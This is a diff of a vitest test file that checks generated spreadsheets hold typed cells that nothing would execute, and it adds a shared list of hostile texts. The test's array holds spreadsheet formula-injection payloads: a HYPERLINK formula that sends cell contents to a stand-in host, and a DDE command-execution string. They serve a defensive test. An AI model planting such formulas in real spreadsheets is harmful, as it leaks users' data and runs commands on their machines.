@@ -1,6 +1,7 @@
 // Looks into the files: typed cells, nothing a spreadsheet would run, well-formed documents in the decree's layout.
 
 import { describe, expect, it } from "vitest";
+import { hostileTexts } from "../testing/hostile-texts.ts";
 import { readZip } from "../testing/read-zip.ts";
 import { wellFormed } from "../testing/well-formed.ts";
 import type { OverdueTask } from "./overdue-task.ts";
@@ -12,6 +13,7 @@ import { sheetXlsx } from "./sheet-xlsx.ts";
 
 /** What a spreadsheet must not run and a document must not break on; every one stands in a text of a sheet. */
 const hostile = [
+  ...Object.values(hostileTexts).flat(),
   '=HYPERLINK("http://evil.invalid?"&A1,"xem")',
   "=cmd|' /C calc'!A0",
   "+84 912 345 678",
